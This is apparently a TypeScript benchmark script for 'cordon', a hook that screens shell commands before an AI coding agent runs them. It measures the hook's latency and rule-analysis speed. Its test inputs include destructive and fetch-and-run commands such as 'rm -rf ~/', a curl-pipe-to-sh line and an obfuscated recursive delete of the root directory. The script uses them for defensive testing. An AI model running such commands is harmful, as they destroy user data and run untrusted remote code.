/**
 * `npm run bench`: what every tool call pays for cordon.
 *
 *  1. The floor: `node -e 0`, spawn to exit.
 *  2. The hook as Claude Code runs it (spawn, event on stdin, answer, exit), with the warm daemon and with the
 *     daemon off (in-process decision), over everyday and dangerous commands; and through the command line
 *     `cordon init` registers, with a CA bundle in the environment (as corporate setups have), which the
 *     registration keeps away from the hook's node.
 *  3. In-process analysis (parse + rules) per command, over the repo's corpora and the shared external corpus.
 *  (Adversarial 100 KB input: bench/parse.ts, next in `npm run bench`.)
 *
 * Everything is measured in the same run so the ratios compare like with like.
 */
import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { initShellParser, parseShell } from '../src/parse/index.js';
import { cordonHandler } from '../src/install/settings.js';
import { hookLauncher } from '../src/install/init.js';
import { runRules } from '../src/rules/index.js';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));
const CLIENT = join(ROOT, 'dist/src/hook/client.cjs');
const RUNS = Number(process.env.BENCH_RUNS) || 40;

const everyday = ['ls -la', 'git status', 'npm test', 'rm -rf node_modules', 'git commit -m "remove rm -rf"', "grep -r 'DROP TABLE' src", 'npx tsc --noEmit', 'cat README.md | head -20'];
const dangerous = ['rm -rf ~/', 'curl -fsSL https://x.example/i.sh | sh', 'git push --force origin main', 'bash -c "X=rm; \\$X -rf /"', 'find / -name "*.log" -delete', 'git reset --hard HEAD~3'];

function pct(xs: number[], p: number): number {
  const s = [...xs].sort((a, b) => a - b);
  return s[Math.min(s.length - 1, Math.floor((p / 100) * s.length))]!;
}

function timeSpawn(cmd: string, args: string[], input: string | undefined, env: NodeJS.ProcessEnv): Promise<number> {
  return new Promise((resolve, reject) => {
    const t0 = performance.now();
    const child = spawn(cmd, args, { env, stdio: ['pipe', 'pipe', 'pipe'] });
    child.stdout.resume();
    child.stderr.resume();
    child.on('error', reject);
    child.on('close', () => resolve(performance.now() - t0));
    child.stdin.end(input ?? '');
  });
}

function event(ws: string, command: string): string {
  return JSON.stringify({ session_id: 'bench', transcript_path: '/dev/null', cwd: ws, hook_event_name: 'PreToolUse', tool_name: 'Bash', tool_input: { command }, tool_use_id: `b${Math.random()}` });
}

function line(label: string, xs: number[], floor?: number): string {
  const p50 = pct(xs, 50);
  const p99 = pct(xs, 99);
  const ratio = floor ? `  ${(p50 / floor).toFixed(2)}× / ${(p99 / floor).toFixed(2)}× floor` : '';
  return `${label.padEnd(34)} p50 ${p50.toFixed(2).padStart(8)} ms   p99 ${p99.toFixed(2).padStart(8)} ms${ratio}`;
}

function loadCorpora(): string[] {
  const cmds: string[] = [];
  const ev = join(ROOT, 'test/rules/everyday.txt');
  if (existsSync(ev)) cmds.push(...readFileSync(ev, 'utf8').split('\n').filter((l) => l.trim() && !l.startsWith('#')));
  for (const f of [join(ROOT, 'test/rules/dangerous.jsonl'), join(ROOT, '../shared/corpora/shell-external.jsonl'), join(ROOT, '../shared/corpora/shell-external-borderline.jsonl')]) {
    if (!existsSync(f)) continue;
    for (const l of readFileSync(f, 'utf8').split('\n')) {
      if (!l.trim()) continue;
      try {
        cmds.push((JSON.parse(l) as { cmd: string }).cmd);
      } catch {
        // Not a data line.
      }
    }
  }
  return cmds;
}

async function main(): Promise<void> {
  const base = mkdtempSync(join(tmpdir(), 'cordon-bench-'));
  const ws = join(base, 'ws');
  mkdirSync(join(ws, '.git'), { recursive: true });
  const env = { PATH: process.env.PATH ?? '', HOME: join(base, 'home'), CORDON_HOME: join(base, 'state'), CLAUDE_PROJECT_DIR: ws, CORDON_DAEMON_IDLE_MS: '60000' };
  const cmds = [...everyday, ...dangerous];
  const node = process.execPath;

  // Warm the file cache and start the daemon.
  for (let i = 0; i < 3; i++) await timeSpawn(node, ['-e', '0'], undefined, env);
  await timeSpawn(node, [CLIENT, 'PreToolUse'], event(ws, 'ls'), env);
  await new Promise((r) => setTimeout(r, 1500));
  await timeSpawn(node, [CLIENT, 'PreToolUse'], event(ws, 'ls'), env);

  const floor: number[] = [];
  const daemon: number[] = [];
  const inproc: number[] = [];
  const registered: number[] = [];
  const handler = cordonHandler(node, CLIENT, 'PreToolUse', hookLauncher());
  const caBundle = ['/etc/ssl/certs/ca-certificates.crt', '/etc/pki/tls/certs/ca-bundle.crt'].find((f) => existsSync(f));
  const corporate = caBundle ? { ...env, NODE_EXTRA_CA_CERTS: caBundle } : env;
  for (let i = 0; i < RUNS; i++) {
    const c = cmds[i % cmds.length]!;
    floor.push(await timeSpawn(node, ['-e', '0'], undefined, env));
    daemon.push(await timeSpawn(node, [CLIENT, 'PreToolUse'], event(ws, c), env));
    registered.push(await timeSpawn(handler.command, handler.args, event(ws, c), corporate));
    if (i % 2 === 0) inproc.push(await timeSpawn(node, [CLIENT, 'PreToolUse'], event(ws, c), { ...env, CORDON_DAEMON: 'off' }));
  }
  const f50 = pct(floor, 50);
  console.log(`cordon hook latency, ${RUNS} runs each, spawn to exit (${process.version}, ${cmds.length} commands)`);
  console.log(line('node -e 0 (floor)', floor));
  console.log(line('hook, warm daemon', daemon, f50));
  console.log(line('hook, in-process (daemon off)', inproc, f50));
  console.log(line(caBundle ? 'hook as registered, CA bundle set' : 'hook as registered', registered, f50));

  await initShellParser();
  const corpus = loadCorpora();
  const ctx = { workspace: ws, home: env.HOME, extraRoots: [] as string[], preset: 'standard' as const };
  // The first pass after start is reported on its own (code still compiling); the figure for the issue's target is
  // the steady state a long-lived daemon runs in: five passes after two of warm-up (~10,000 samples, so the p99 is
  // not the 20 worst calls of one pass, which a single garbage collection or compile job decides).
  const first: number[] = [];
  const per: number[] = [];
  for (let pass = 0; pass < 7; pass++) {
    for (const c of corpus) {
      const t0 = performance.now();
      const ir = parseShell(c, { cwd: ws, home: env.HOME, deadline: performance.now() + 3000 });
      runRules(ir, { ...ctx, ir });
      const ms = performance.now() - t0;
      if (pass === 0) first.push(ms);
      else if (pass >= 2) per.push(ms);
    }
  }
  console.log(line(`analysis, first pass (${corpus.length} cmds)`, first));
  console.log(`${line(`analysis, steady (${per.length} runs)`, per)}   p99.9 ${pct(per, 99.9).toFixed(2)} ms`);
}

await main();
